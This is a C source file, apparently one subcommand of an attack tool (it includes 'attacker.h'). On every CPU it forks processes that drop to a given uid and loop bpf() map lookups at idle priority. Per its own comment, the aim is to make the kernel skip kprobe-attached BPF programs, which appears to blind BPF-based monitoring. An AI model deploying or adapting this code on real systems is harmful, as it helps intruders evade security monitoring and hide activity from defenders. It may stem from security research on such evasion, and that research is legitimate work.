// SPDX-License-Identifier: GPL-2.0-only
/* Calls of bpf() that other tasks interrupt: meanwhile the kernel skips programs behind kprobes on that CPU. */
#include <linux/bpf.h>
#include <sched.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <signal.h>
#include <unistd.h>

#include "attacker.h"

/* The longer a look takes, the likelier it is interrupted. */
#define VALUE_SIZE 32000

static int bpf(int command, union bpf_attr *attr)
{
	return (int)syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static void look_for_ever(int cpus)
{
	union bpf_attr attr;
	char *value = calloc((size_t)cpus, VALUE_SIZE);
	int key = 0, fd;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_PERCPU_ARRAY;
	attr.key_size = sizeof(key);
	attr.value_size = VALUE_SIZE;
	attr.max_entries = 1;
	fd = bpf(BPF_MAP_CREATE, &attr);
	if (fd < 0 || !value)
		die("a map");
	memset(&attr, 0, sizeof(attr));
	attr.map_fd = (__u32)fd;
	attr.key = (unsigned long)&key;
	attr.value = (unsigned long)value;
	while (bpf(BPF_MAP_LOOKUP_ELEM, &attr) == 0)
		;
	die("a look into the map");
}

static void run_on(int cpu, int cpus, uid_t uid)
{
	const struct sched_param idle = { 0 };
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set) || setgid(uid) || setuid(uid) ||
	    sched_setscheduler(0, SCHED_IDLE, &idle) || prctl(PR_SET_PDEATHSIG, SIGKILL))
		die("bpf");
	look_for_ever(cpus);
}

int cmd_bpf(int argc, char **argv)
{
	const int cpus = (int)sysconf(_SC_NPROCESSORS_CONF);

	(void)argc;
	for (int cpu = 0; cpu < cpus; cpu++)
		if (fork() == 0)
			run_on(cpu, cpus, (uid_t)atoi(argv[0]));
	wait(NULL);
	return 1;
}
